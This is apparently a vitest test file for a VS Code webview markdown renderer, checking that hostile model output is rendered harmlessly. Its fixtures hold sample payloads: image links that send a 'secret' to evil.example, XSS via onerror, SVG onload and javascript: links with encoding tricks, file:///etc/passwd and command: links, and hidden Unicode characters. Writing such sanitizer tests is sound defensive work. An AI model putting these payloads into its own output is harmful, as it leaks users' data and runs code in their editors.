import { describe, expect, it } from 'vitest';
import { renderMarkdownOnce } from '../../../webview/markdown/render-once.ts';
import { createStreamingMarkdown } from '../../../webview/markdown/streaming-markdown.ts';
import { units } from './streaming.ts';
import { policy } from './test-policy.ts';

const hostile: Record<string, string> = {
  'an image': '![secret](https://evil.example/?q=secret)',
  'an image with a data URL': '![x](data:image/png;base64,AAAA)',
  'a reference image': '![x][i]\n\n[i]: https://evil.example/i.png',
  'a reference image defined first': '[i]: https://evil.example/i.png "t"\n\n![i] and ![x][i]',
  'an image in a link': '[![x](https://evil.example/i.png)](javascript:alert(1))',
  'an HTML image': '<img src="https://evil.example/?q" srcset="https://evil.example/2 2x" onerror=alert(1)>',
  'a block of HTML':
    '<div>\n<img src=x onerror=alert(1)>\n<iframe src="https://evil.example"></iframe>\n</div>',
  'an SVG': '<svg onload="alert(1)"><image href="https://evil.example/x"/><use href="#a"/></svg>',
  'a script and a style': '<script>alert(1)</script>\n\n<style>@import "https://evil.example"</style>',
  'a javascript link': '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1))',
  'a javascript link with control characters':
    '[x](java&#9;script:alert(1)) [y](&#1;javascript:alert(1)) [z]( javascript:alert(1))',
  'a javascript autolink': '<javascript:alert(1)> <vbscript:x> <data:text/html,x>',
  'a javascript reference':
    '[x][j]\n\n[j]: javascript:alert(1)\n\n[y][k]\n\n[k]: command:workbench.action.quit',
  'links into VS Code':
    '[x](vscode:extension/evil.ext) [y](vscode-insiders://evil) [z](command:evil) <command:evil> <vscode://evil>',
  'links to files':
    '[x](file:///etc/passwd) [y](data:text/html,<b>) [z](blob:https://x) [w](/etc/passwd) [v](../up) [u](//host/x) [t](#a) [s]()',
  'attributes smuggled in':
    '[x](https://ok.example "t\\" onclick=alert(1) \\"") ```` "onmouseover=alert(1)\n\n``` "><img src=x>\ncode\n```',
  'a table that styles': '|a|b|\n|:-:|-:|\n|<img src=x>|![x](https://evil.example)|',
};

function allElements(text: string, render: (container: HTMLElement) => void): Element[] {
  const container = document.createElement('div');
  render(container);
  expect(container.textContent, text).not.toBe('');
  return [...container.querySelectorAll('*')];
}

const renderers: Record<string, (text: string) => Element[]> = {
  streamed: (text) =>
    allElements(text, (container) => {
      const markdown = createStreamingMarkdown(container, policy);
      for (const unit of units(text)) {
        markdown.append(unit);
        expectHarmless([...container.querySelectorAll('*')]);
      }
      markdown.finish();
    }),
  'rendered at once': (text) => allElements(text, (container) => renderMarkdownOnce(container, text, policy)),
};

const ALLOWED_ATTRIBUTES = new Set(
  'class href title start role aria-label tabindex data-code-point'.split(' '),
);

function expectHarmless(elements: readonly Element[]): void {
  for (const element of elements) {
    expect(['img', 'svg', 'script', 'style', 'iframe', 'video', 'audio', 'object', 'embed']).not.toContain(
      element.localName,
    );
    for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
    const href = element.getAttribute('href');
    if (href !== null) expect(new URL(href).protocol).toMatch(/^(https?|mailto):$/);
    if (href !== null) expect(element.getAttribute('title')).toBe(href);
  }
}

describe.each(Object.entries(renderers))('what a hostile model writes, %s,', (_, render) => {
  it.each(Object.entries(hostile))(
    'loads nothing and leads nowhere but to the web or to mail: %s',
    (_name, text) => {
      expectHarmless(render(text));
    },
  );

  it('shows an image as a named placeholder', () => {
    const placeholder = render('![a *cat*](https://evil.example/c.png "t")').find((it) =>
      it.matches('.md-image'),
    );
    expect(placeholder?.getAttribute('role')).toBe('img');
    expect(placeholder?.getAttribute('aria-label')).toBe('[image: a cat at https://evil.example/c.png]');
    expect(placeholder?.textContent).toBe('[image: a cat at https://evil.example/c.png]');
  });

  it('keeps the text of a link that must not be opened', () => {
    const blocked = render('[*Quit*](command:workbench.action.quit)').find((it) =>
      it.matches('.md-link-blocked'),
    );
    expect(blocked?.textContent).toBe('Quit');
    expect(blocked?.hasAttribute('href')).toBe(false);
  });

  it('links to the web and to mail', () => {
    const links = render(
      '[a](https://a.example) [b](http://b.example) <c@d.example> [e](HTTPS://E.example)',
    ).filter((it) => it.matches('a'));
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://a.example',
      'http://b.example',
      'mailto:c@d.example',
      'HTTPS://E.example',
    ]);
  });

  it('marks characters in code that cannot be seen, and leaves the code as it is', () => {
    const text = 'if (x) { // \u202E } \u2066\u200B\uFEFF end';
    for (const markdown of [`\`${text}\``, `\`\`\`js\n${text}\n\`\`\``]) {
      const elements = render(markdown);
      const marks = elements.filter((it) => it.matches('.md-hidden-character'));
      expect(marks.map((mark) => mark.getAttribute('data-code-point'))).toEqual([
        'U+202E',
        'U+2066',
        'U+200B',
        'U+FEFF',
      ]);
      expect(elements.find((it) => it.matches('code'))?.textContent.trim()).toBe(text);
    }
  });

  it('marks ASCII smuggled in tag characters as one mark each', () => {
    const marks = render('`a\u{E0041}\u{E0042}`').filter((it) => it.matches('.md-hidden-character'));
    expect(marks.map((mark) => mark.getAttribute('data-code-point'))).toEqual(['U+E0041', 'U+E0042']);
  });
});
